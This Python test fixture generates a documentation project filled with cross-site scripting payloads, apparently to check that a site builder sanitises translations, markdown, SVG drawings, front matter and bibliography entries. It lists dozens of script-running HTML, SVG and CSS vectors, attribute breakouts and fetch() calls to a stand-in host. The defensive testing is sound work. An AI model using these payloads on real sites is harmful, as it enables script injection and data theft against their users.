"""Hostile texts of our own making: ways to run or fetch something, and the places to try them."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from itertools import count

from support import CONFIG, Project

#: Where requests would go, and what runs would say.
ELSEWHERE, RAN = "elsewhere.example", "RAN"

_RUN = ["alert({n})", f"console.log('{RAN}',{{n}})", f"fetch('//{ELSEWHERE}/{{n}}')"]
_URL = f"https://{ELSEWHERE}/{{n}}"
#: HTML that runs JS, or fetches URL, as soon as a page holds it, or once somebody touches it.
_TAGS = [
    "<script>JS</script>",
    "<ScRiPt >JS</sCrIpT >",
    "<script src=URL></script>",
    "<script type=module>JS</script>",
    "<img src=nothing onerror=JS>",
    "<img/src=nothing/onerror=JS>",
    '<img src="URL.png" alt="a">',
    '<img srcset="URL.png 1x" src="data:,">',
    "<picture><source srcset=URL><img></picture>",
    "<svg onload=JS></svg>",
    "<svg><script>JS</script></svg>",
    "<svg><image href=URL /></svg>",
    "<svg><use href=URL#a /></svg>",
    "<svg><set attributeName=href to=javascript:JS /></svg>",
    "<math><mi href=javascript:JS>x</mi></math>",
    "<video src=URL autoplay></video>",
    "<video poster=URL></video>",
    "<video><source onerror=JS></video>",
    "<audio src=nothing onerror=JS></audio>",
    "<details open ontoggle=JS><summary>s</summary></details>",
    "<input autofocus onfocus=JS>",
    "<b tabindex=0 onfocus=JS autofocus>b</b>",
    '<b style="background:url(URL)">b</b>',
    "<b style=animation:a onanimationstart=JS>b</b>",
    "<style>@keyframes a{} body{background:url(URL)}</style>",
    "<style>@import url(URL);</style>",
    "<link rel=stylesheet href=URL>",
    "<link rel=preload as=image href=URL>",
    "<iframe src=URL></iframe>",
    '<iframe srcdoc="<script>parent.JS</script>"></iframe>',
    "<iframe src=javascript:JS></iframe>",
    "<object data=URL></object>",
    "<embed src=URL>",
    '<a href="javascript:JS">a</a>',
    '<a href="java&#9;script:JS">a</a>',
    '<a href="&#106;avascript:JS">a</a>',
    '<a href="data:text/html,<script>JS</script>">a</a>',
    "<form action=javascript:JS><button>b</button></form>",
    "<button formaction=javascript:JS>b</button>",
    "<template><script>JS</script></template>",
    '<noscript><p title="</noscript><img src=nothing onerror=JS>"></noscript>',
    "<textarea></textarea><img src=nothing onerror=JS>",
    '<xmp><p title="</xmp><img src=nothing onerror=JS>"></xmp>',
    "<!--><img src=nothing onerror=JS>-->",
    "<marquee onstart=JS>m</marquee>",
    "<body onload=JS onpageshow=JS>",
    '<i id="__config">{"base":"javascript:JS","search":"URL","features":[],"translations":{}}</i>',
    '<i id="__search">i</i>',
    "<base href=URL>",
    '<meta http-equiv=refresh content="0;url=URL">',
    "<link rel=preconnect href=URL>",
    "<a href=x ping=URL>a</a>",
    '<a href=" &#1; javascript&colon;JS">a</a>',
    '<svg><a xlink:href="javascript:JS"><text>a</text></a></svg>',
    "<math><maction actiontype=statusline href=javascript:JS><mi>x</mi></maction></math>",
    "<svg><style>@import 'URL';</style></svg>",
    "<style>@font-face{font-family:f;src:url(URL)} p{font-family:f}</style>",
    "<b style='cursor:url(URL),auto;list-style-image:image-set(\"URL\" 1x)'>b</b>",
    "<iframe src='data:text/html,<script>parent.JS</script>'></iframe>",
    "<object data='data:image/svg+xml,<svg onload=\"JS\"/>'></object>",
    "<img src='data:image/svg+xml,<svg onload=\"JS\"/>'>",
]
#: What speaks of the whole page stops the build, where a page's author wrote it.
_STOPS = re.compile(r'id="__|<base|<meta|<link')
#: What leaves a text or an attribute for markup, where a plain word stands.
_WORDS = [
    '"><img src=nothing onerror=JS>',
    "'><img src=nothing onerror=JS>",
    '" onmouseover=JS onfocus=JS autofocus x="',
    "' onmouseover=JS onfocus=JS autofocus x='",
    "</title><script>JS</script>",
    "</script><script>JS</script>",
    "&lt;img src=nothing onerror=JS&gt;",
    "&quot; onmouseover=JS x=&quot;",
    "` onmouseover=JS x=`",
    "--><script>JS</script>",
    "{{ JS }}${JS}",
]


class Payloads:
    """Numbered payloads, so that each can be told by what it does."""

    def __init__(self) -> None:
        self._numbers = count(1)
        self.made = 0

    def _filled(self, vector: str) -> str:
        self.made = n = next(self._numbers)
        run = _RUN[n % len(_RUN)].format(n=n)
        return vector.replace("JS", run).replace("URL", _URL.format(n=n))

    def tags(self) -> Iterator[str]:
        """Every way to bring in a tag."""
        return map(self._filled, _TAGS)

    def plain(self) -> str:
        """Every way out of a plain text that has no tag: those in a map stop the build."""
        return " ".join(self._filled(word) for word in _WORDS if "<" not in word)

    def words(self) -> Iterator[str]:
        """Every way out of a plain text, then every tag."""
        return map(self._filled, [*_WORDS, *_TAGS])


def write_hostile_project(root: Project) -> Payloads:
    """A project that strangers have written all parts of."""
    made = Payloads()
    _write_maps(root, made)
    _write_notes(root, made)
    _write_drawings(root, made)
    _write_papers(root, made)
    _write_words(root, made)
    return made


def _map(root: Project, page: str, entries: dict[str, str]) -> None:
    root.write(f"translations/zh/{page}.json", json.dumps(entries, ensure_ascii=False))


def _write_maps(root: Project, made: Payloads) -> None:
    """Keys that bring their own tags along: what they allow themselves is not what the page has."""
    keys = {}
    for number, tag in enumerate(made.tags()):
        keys[f"<p>Words {number}.{tag}</p>"] = f"<p>词 {number}。{tag}</p>"
    root.write("docs/keys.md", "# Keys\n\n" + "\n\n".join(f"Words {n}." for n in range(len(keys))))
    _map(root, "keys", keys)
    # The page has the tags, and a translation changes what stands in them.
    own = '<div class="own" id="own-{}"><video title="w" src="a.mp4"></video> Own {}.</div>'
    root.write("docs/own.md", "# Own\n\n" + "\n\n".join(own.format(n, n) for n in range(12)))
    root.write("docs/a.mp4", "")
    attributes = [
        f' {name}="{value}"'
        for name in ("src", "poster", "onplay", "onerror", "style", "id")
        for value in (f"https://{ELSEWHERE}/{name}", "alert('attribute')")
    ]
    _map(root, "own", {
        own.format(n, n): own.format(n, n).replace(' src="a.mp4"', attribute).replace("Own", "自")
        for n, attribute in enumerate(attributes)
    })  # fmt: skip


def _write_notes(root: Project, made: Payloads) -> None:
    """Sources: HTML in notes, words in code, links, captions, front matter."""
    tags = [tag for tag in made.tags() if not _STOPS.search(tag)]
    notes = "\n\n".join(f"Note. {tag}\n\n{tag}" for tag in tags)
    root.write("docs/notes.md", f"# Notes\n\n{notes}\n")
    lines = "\n".join(
        f"# {tag}\nx = {word!r}" for tag, word in zip(tags, made.words(), strict=False)
    )
    root.write("src/paper/net.py", f'"""# Code"""\n\n{lines}\n')
    root.write("docs/p.png", "")
    pictures = "\n\n".join(
        f"![{_quoted(word)}](p.png '{_quoted(word)}')\n\n[a](index.md '{_quoted(word)}')"
        for word in made.words()
    )
    root.write("docs/pictures.md", f"# Pictures\n\n{pictures}\n")
    words = list(made.words())
    for number in range(4):
        quoted = json.dumps(" ".join(words[number:12:4]))
        fields = ("title", "summary", "status", "subtitle", "author")
        matter = "\n".join(f"{field}: {quoted}" for field in fields)
        root.write(f"docs/front{number}.md", f"---\n{matter}\n---\n\n# Front\n")


def _quoted(word: str) -> str:
    return "".join(f"\\{c}" if c in "\\'\"[]()`$" else c for c in word)


def _write_drawings(root: Project, made: Payloads) -> None:
    """SVG files, whose content becomes part of the page."""
    head = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    inner = [
        "<script>JS</script>", '<g onclick="JS" onload="JS"/>', '<image href="URL"/>',
        '<image xlink:href="URL"/>', '<use href="URL#a"/>', '<a href="javascript:JS"><text>a</text></a>',
        '<foreignObject><b xmlns="http://www.w3.org/1999/xhtml" onclick="JS"><img src="URL"/></b></foreignObject>',
        '<set attributeName="onload" to="JS"/>', '<animate attributeName="href" values="javascript:JS"/>',
        "<style>@import 'URL';</style>", "<style>* { background: url(URL) }</style>",
        "<style>} body { background: url(URL) } a {</style>", '<rect fill="url(URL#a)"/>',
        '<rect style="fill:url(URL#a)"/>', '<filter id="f"><feImage href="URL"/></filter>',
        '<image href="data:image/svg+xml,&lt;svg onload=JS&gt;"/>', "<text>&lt;img src=x onerror=JS&gt;</text>",
        '<h:script xmlns:h="http://www.w3.org/1999/xhtml">JS</h:script>', '<style>a{cursor:image-set("URL")}</style>',
        "<style>.md-header { display: none }</style>", '<g class="md-overlay" style="position:fixed"/>',
    ]  # fmt: skip
    shown = []
    for number, vector in enumerate(inner):
        root.write(f"docs/d{number}.svg", f"{head}>{made._filled(vector)}</svg>")
        shown.append(f"![A drawing](d{number}.svg)")
    root.write("docs/bare.svg", f'{head} onload="{made._filled("JS")}"/>')
    root.write("docs/drawings.md", "# Drawings\n\n" + "\n\n".join([*shown, "![b](bare.svg)"]))


def _write_papers(root: Project, made: Payloads) -> None:
    """A bibliography."""
    entries = []
    for number, word in enumerate(made.words()):
        plain = word.replace("{", "").replace("}", "").replace("$", "").replace("\\", "")
        field = plain.replace("&", "\\&").replace("#", "\\#").replace("%", "\\%")
        entries.append(
            f"@article{{k{number}, title = {{{field}}}, author = {{{field.replace(' and ', ' ').replace(',', ';')}}},"
            f" journal = {{{field}}}, year = {{{number}}}, url = {{https://x.example/{plain}}},"
            f" doi = {{{plain}}}}}"
        )
    root.write("docs/papers.bib", "\n".join(entries))
    root.write("docs/papers.md", "# Papers\n\n" + " ".join(f"[@k{n}]" for n in range(len(entries))))


def _write_words(root: Project, made: Payloads) -> None:
    """The words of no page: the site's, the navigation's, the engine's, a language's name."""
    root.write(
        "docs/index.md",
        "---\ntitle: First\nsummary: Sum.\n---\n\n# First\n\n!!! note\n    Text.[^1]\n\n[^1]: A.\n",
    )
    labels = [f"Label {number}" for number in range(6)]
    pages = ["keys", "own", "notes", "pictures", "drawings", "papers"]
    nav = "".join(f"  - {label}: {page}.md\n" for label, page in zip(labels, pages, strict=True))
    config = CONFIG.replace(
        "site_name: A paper\n", "site_name: A paper\nsite_description: About.\ncopyright: Ours.\n"
    )
    config = (
        config.replace("  - Net: net.md\n", f"  - Net: net.md\n{nav}")
        .replace(
            "  font: false\n",
            "  font: false\n  palette:\n    - scheme: default\n      toggle: {icon: material/weather-night, name: Dark}\n"
            "    - scheme: slate\n      toggle: {icon: material/weather-sunny, name: Light}\n",
        )
        .replace(
            "[src/paper]",
            "[src/paper]\n      bibliography: docs/papers.bib\n      dead_links: report",
        )
    )
    root.write("mkdocs.yml", config)
    sites = ["A paper", "About.", "Ours.", "Start", "Net", *labels, "Dark", "Light", "Not translated yet",
             "Page not found", "There is no page at this address.", "To the overview", "Imports",
             "Download the source file", "Download as a notebook", "Enlarge", "Close", "Note",
             "Back to the text", "References"]  # fmt: skip
    _map(root, "site", {word: made.plain() for word in sites})
    _map(root, "index", {"First": made.plain(), "Sum.": made.plain()})
    root.write("translations/zh/language.toml", f"name = {json.dumps(' '.join(made.words()))}\n")
